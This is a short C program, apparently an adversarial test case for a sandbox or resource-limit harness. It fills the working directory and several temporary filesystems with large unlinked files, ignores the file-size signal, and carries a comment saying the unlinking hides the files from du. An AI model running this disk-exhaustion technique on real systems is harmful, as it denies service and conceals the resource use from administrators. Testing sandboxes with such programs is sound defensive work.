#include "attack.h"


static void fill(const char *path)
{
    static char block[1 << 20];
    int file = open(path, O_WRONLY | O_CREAT, 0600);

    unlink(path); /* what has no name is not found by du */
    for (int i = 0; file >= 0 && i < 400; ++i) {
        signal(SIGXFSZ, SIG_IGN);
        if (write(file, block, sizeof block) <= 0)
            return;
    }
}

int main(void)
{
    for (int i = 0; i < 4; ++i) {
        fill("here");
        fill("/tmp/there");
        fill("/dev/shm/elsewhere");
        fill("/var/tmp/anywhere");
    }
    for (int fd = 3; fd < 64; ++fd)
        close(fd);
    serve();
}
